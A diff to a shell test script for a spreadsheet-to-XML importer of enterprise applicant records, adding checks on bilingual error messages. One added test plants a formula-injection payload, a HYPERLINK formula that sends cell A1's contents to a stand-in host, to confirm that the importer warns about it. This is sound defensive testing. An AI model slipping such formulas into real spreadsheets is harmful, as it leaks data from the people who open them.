@@ -47,6 +47,17 @@ for p in xuchang-nit fujian-fusion shandong-demo henan-toutou; do
   check "$p: … in Chinese" has "缺少$(ex "blank-$p" header)：请填写"
 done
 
+imp hunan-cloud blank-hunan-cloud.csv
+check "hunan-cloud: neither code: one error at the row, in the headers' words" \
+  has "blank-hunan-cloud.csv:A3: error: enterprise HN-2019-001: no 统一社会信用代码 or 组织机构代码: fill in one of them"
+LANG=zh_CN.UTF-8 imp hunan-cloud blank-hunan-cloud.csv
+check "hunan-cloud: … in Chinese" has "缺少统一社会信用代码或组织机构代码：请填写其一"
+check "hunan-cloud: … and not at a line of the round never written" bash -c "! grep -q '^r.xml' err"
+# what the schema refuses after the import is said at the applicant's row, not at r.xml:LINE
+imp hunan-cloud mail-hunan-cloud.csv
+check "hunan-cloud: a schema error after the import: at the applicant's row" has "mail-hunan-cloud.csv:A3: error: enterprise HN-2019-001: does not match the review-round schema"
+check "hunan-cloud: … not at r.xml" bash -c "! grep -q '^r.xml' err"
+
 # the Xuchang workbook: a county label with a slip, a renamed sheet, two counties
 imp xuchang-nit label-slip.xlsx
 check "a 盖章 label '魏都': one error at its cell" one_error
@@ -78,6 +89,22 @@ check "CSV: a code typed '9141…: one error" one_error
 imp xuchang-nit e17-code.csv
 check "CSV: a code shown 9.14110E+17: one error" one_error
 check "… at its cell" has "e17-code.csv:B3: error: 统一社会信用代码 9.14110E+17 is stored as a number"
+
+# a text that a spreadsheet would run as a formula (issue 21 §5, import side): a warning at its cell
+python3 - <<'PY'
+import csv, io
+rows = list(csv.reader(io.StringIO(open("xuchang-nit.csv", "rb").read().decode("gb18030"))))
+i = rows[1].index("项目名称")
+rows[2][i] = '=HYPERLINK("http://x.example/?"&A1,"点击")'
+b = io.StringIO()
+csv.writer(b, lineterminator="\r\n").writerows(rows)
+open("formula.csv", "wb").write(b.getvalue().encode("gb18030"))
+PY
+imp xuchang-nit formula.csv
+check "a text starting with =: imported (exit 0), kept as typed" bash -c "[ $rc -eq 0 ] && grep -qF '<name>=HYPERLINK' r.xml"
+check "… with a warning at its cell" has "formula.csv:Q3: warning: applicant XC-2022-001: 项目名称 starts with \"=\", as a spreadsheet formula does"
+LANG=zh_CN.UTF-8 imp xuchang-nit formula.csv
+check "… in Chinese" has "项目名称 以“=”开头，形同电子表格公式"
 
 # merged cells and repeated rows
 imp xuchang-nit mergedata.xlsx
